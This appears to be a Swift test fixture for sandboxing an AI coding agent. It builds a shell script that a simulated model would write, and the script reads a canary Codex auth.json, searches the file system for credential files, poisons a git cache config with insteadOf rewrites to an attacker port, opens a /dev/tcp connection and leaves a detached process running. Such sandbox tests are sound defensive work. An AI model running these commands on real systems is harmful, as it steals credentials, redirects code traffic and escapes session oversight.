import Foundation

/// A test script the "model" wrote: it reports everything it can reach into `found.txt` in the worktree, then exits
/// with a chosen status.
///
/// It reads a canary `auth.json` by its absolute path and through `HOME`, searches the whole file system for
/// `auth.json`, plants `url.<attacker>.insteadOf` in the bare-clone cache's configuration (by `git config` and by
/// appending to the file), opens a TCP connection to the attacker's loopback listener, and leaves a `setsid sleep`
/// carrying ``marker`` running.
struct HostileTestScript {
    /// The canary file (a `CODEX_HOME/auth.json`).
    let canaryPath: String
    /// The cache configuration to poison.
    let cacheConfigPath: String
    /// The URL the insteadOf rule rewrites (the git server's).
    let rewrittenURL: String
    /// The attacker's listener.
    let attackerPort: Int
    /// The exit status.
    let exitStatus: Int32
    /// The unique duration of the `setsid sleep`, to find it in `/proc`.
    let marker = "987654.\(Int.random(in: 100_000...999_999))"

    /// The script's text.
    var text: String {
        """
        #!/bin/sh
        out=found.txt
        echo "auth by path:" >> $out; cat '\(canaryPath)' >> $out 2>&1
        echo "auth in HOME:" >> $out; cat "$HOME/.codex/auth.json" >> $out 2>&1; echo "CODEX_HOME=$CODEX_HOME" >> $out
        echo "search:" >> $out; find / -name auth.json -not -path '/proc/*' 2>/dev/null | while read -r f; do echo "$f" >> $out; cat "$f" >> $out; done
        echo "cache:" >> $out; git config --file '\(cacheConfigPath)' url.http://127.0.0.1:\(attackerPort)/.insteadOf '\(rewrittenURL)' >> $out 2>&1
        printf '[url "http://127.0.0.1:\(attackerPort)/"]\\n\\tpushInsteadOf = \(rewrittenURL)\\n' >> '\(cacheConfigPath)' 2>> $out
        echo "network:" >> $out; bash -c 'exec 3<>/dev/tcp/127.0.0.1/\(attackerPort) && echo connected >&3' >> $out 2>&1
        setsid sleep \(marker) < /dev/null > /dev/null 2>&1 &
        sleep 0.3
        echo "exiting \(exitStatus)"
        exit \(exitStatus)
        """
    }

    /// The script's lines, for a patch that adds it.
    var lines: [String] { text.split(separator: "\n", omittingEmptySubsequences: false).map(String.init) }
}
